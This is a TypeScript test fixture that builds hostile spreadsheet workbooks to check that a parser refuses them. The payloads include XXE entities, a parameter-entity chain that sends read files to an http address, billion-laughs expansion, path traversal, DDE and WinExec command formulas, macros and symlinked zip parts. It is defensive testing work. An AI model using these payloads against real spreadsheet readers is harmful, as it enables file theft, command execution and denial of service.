import { type RawEntry, rawZip, workbookEntries } from './hostile-zip.ts'

/** Targets that a hostile workbook tries to have read or called. */
export interface Lures {
  /** Absolute path of a file. */
  readonly file: string
  /** `http://…` */
  readonly http: string
}

/** A workbook that tries to have an outside target read or called, and the expected refusal. */
export type LuringWorkbook = readonly [name: string, bytes: Buffer, outcome: RegExp]

const part = (name: string, xml: string): RawEntry => ({ name, content: Buffer.from(xml) })
const row = (cells: string) => `<worksheet><sheetData><row>${cells}</row></sheetData></worksheet>`
const sheet = (xml: string, ...more: readonly RawEntry[]) =>
  rawZip({ entries: workbookEntries({ content: Buffer.from(xml) }, more) })

/** A valid workbook with replaced or added parts. */
function withParts(...parts: readonly RawEntry[]): Buffer {
  const given = new Set(parts.map(({ name }) => name))
  return rawZip({ entries: [...workbookEntries().filter(({ name }) => !given.has(name)), ...parts] })
}

const link = (target: string, type: string, mode = 'External') =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`
const links = (inside: string) => `<Relationships>${inside}</Relationships>`

const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
const isRead = /^\[\["a"\]\]$/
const noType = /document type/

/** Entities and document types, in each part that is read. */
function entities({ file, http }: Lures): readonly LuringWorkbook[] {
  const unc = '\\\\\\\\localhost\\\\share\\\\x'
  const outside = [
    ['file', `file://${file}`],
    ['file by its bare path', file],
    ['http', http],
    ['UNC', unc],
    ['file on a host', `file://localhost${file}`],
  ] as const
  return [
    ...outside.map(
      ([kind, target]): LuringWorkbook => [
        `an outside entity, ${kind}`,
        sheet(`<!DOCTYPE x [<!ENTITY a SYSTEM "${target}">]>${row('<c t="str"><v>&a;</v></c>')}`),
        noType,
      ],
    ),
    ...outside.map(
      ([kind, target]): LuringWorkbook => [
        `an external document type, ${kind}`,
        sheet(`<!DOCTYPE x SYSTEM "${target}"><worksheet/>`),
        noType,
      ],
    ),
    ...['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/sharedStrings.xml', 'xl/styles.xml'].map(
      (name): LuringWorkbook => [
        `an external entity in ${name}`,
        withParts(part(name, `<!DOCTYPE x [<!ENTITY % a SYSTEM "file://${file}"> %a;]><x>&a;</x>`)),
        noType,
      ],
    ),
    [
      'a parameter entity that sends out what it read',
      sheet(
        `<!DOCTYPE x [<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % c "<!ENTITY s SYSTEM '${http}?%f;'>">%c;]><worksheet>&s;</worksheet>`,
      ),
      noType,
    ],
    ['a billion laughs', sheet(`<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]><worksheet>&l9;</worksheet>`), noType],
    [
      'a quadratic blow-up',
      sheet(`<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]><worksheet>${'&a;'.repeat(50_000)}</worksheet>`),
      noType,
    ],
    ['an external entity in UTF-16', withParts(utf16(`<!DOCTYPE x SYSTEM "${http}"><worksheet/>`)), /not in UTF-8/],
    ['an undeclared entity', sheet(row('<c t="str"><v>&a;</v></c>')), /not well-formed/],
  ]
}

const utf16 = (xml: string): RawEntry => ({
  name: 'xl/worksheets/sheet1.xml',
  content: Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${xml}`, 'utf16le'),
})

/** Links out of the workbook, of every kind that a spreadsheet program follows. */
function outsideLinks({ file, http }: Lures): readonly LuringWorkbook[] {
  const targets = [`file://${file}`, file, http, '\\\\localhost\\share\\x', `../../../../../../../../..${file}`]
  const own = 'xl/_rels/workbook.xml.rels'
  const book = `<externalLink><externalBook r:id="r1"/><ddeLink ddeService="cmd" ddeTopic="/C cat ${file}"/></externalLink>`
  return [
    ...targets.flatMap((target): readonly LuringWorkbook[] => [
      [`a sheet outside, ${target}`, withParts(part(own, links(link(target, 'worksheet')))), /no sheet with cells/],
      [
        `an external sheet declared as internal, ${target}`,
        withParts(part(own, links(link(target, 'worksheet', 'Internal')))),
        /lists a sheet .* that is not in the file/,
      ],
      [
        `a linked workbook, ${target}`,
        withParts(
          part('xl/externalLinks/externalLink1.xml', book),
          part('xl/externalLinks/_rels/externalLink1.xml.rels', links(link(target, 'externalLinkPath'))),
        ),
        isRead,
      ],
      [
        `an external picture, hyperlink and template, ${target}`,
        withParts(
          part(
            'xl/worksheets/_rels/sheet1.xml.rels',
            links(['image', 'hyperlink', 'oleObject'].map((type) => link(target, type)).join('')),
          ),
          part('_rels/.rels', links(link(target, 'attachedTemplate'))),
        ),
        isRead,
      ],
      [
        `a data connection, ${target}`,
        withParts(
          part('xl/connections.xml', `<connections><connection><webPr url="${target}"/></connection></connections>`),
        ),
        isRead,
      ],
    ]),
    [
      'a part that is not read, with a document type',
      withParts(part('docProps/core.xml', `<!DOCTYPE x SYSTEM "${http}"><x/>`)),
      isRead,
    ],
  ]
}

/** Formulas and markup with an external target. */
function calls({ file, http }: Lures): readonly LuringWorkbook[] {
  const formulas = [
    `WEBSERVICE("${http}")`,
    `HYPERLINK("${http}")`,
    `IMPORTDATA("${http}")`,
    `IMAGE("${http}")`,
    `'file://${file}'#$Sheet1.A1`,
    `[${file}]Sheet1!A1`,
    `cmd|'/C cat ${file}'!A0`,
    `CALL("Kernel32","WinExec","JC","cat ${file}",0)`,
  ].map((formula) => formula.replaceAll('"', '&quot;'))
  return [
    ...formulas.map(
      (formula): LuringWorkbook => [
        `the formula ${formula}`,
        sheet(row(`<c t="str"><f>${formula}</f><v>a</v></c>`)),
        isRead,
      ],
    ),
    [
      'an inclusion',
      sheet(
        `<worksheet xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://${file}" parse="text"/><sheetData><row><c t="str"><v>a</v></c></row></sheetData></worksheet>`,
      ),
      isRead,
    ],
    [
      'a style sheet and a schema',
      sheet(
        `<?xml-stylesheet type="text/xsl" href="${http}"?><worksheet xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${http} urn:y file://${file}" xml:base="${http}"><sheetData><row><c t="str"><v>a</v></c></row></sheetData></worksheet>`,
      ),
      isRead,
    ],
    ['macros', withParts(part('xl/vbaProject.bin', `Shell "cat ${file}"`)), /macros/],
    [
      'an object embedded',
      withParts(
        part('xl/embeddings/oleObject1.bin', '\u00d0\u00cf\u0011\u00e0'),
        part('xl/activeX/activeX1.xml', '<x/>'),
      ),
      isRead,
    ],
    [
      'a part that is a link to a file',
      withParts({ ...part('xl/link', file), attributes: (0o120777 << 16) >>> 0 }),
      /is a link/,
    ],
    ['a part named like an external file', withParts(part(file, 'x')), /leads out|damaged/],
  ]
}

/** Workbooks that try to have an external file read or an address called by a naive reader. */
export function luringWorkbooks(lures: Lures): readonly LuringWorkbook[] {
  return [...entities(lures), ...outsideLinks(lures), ...calls(lures)]
}
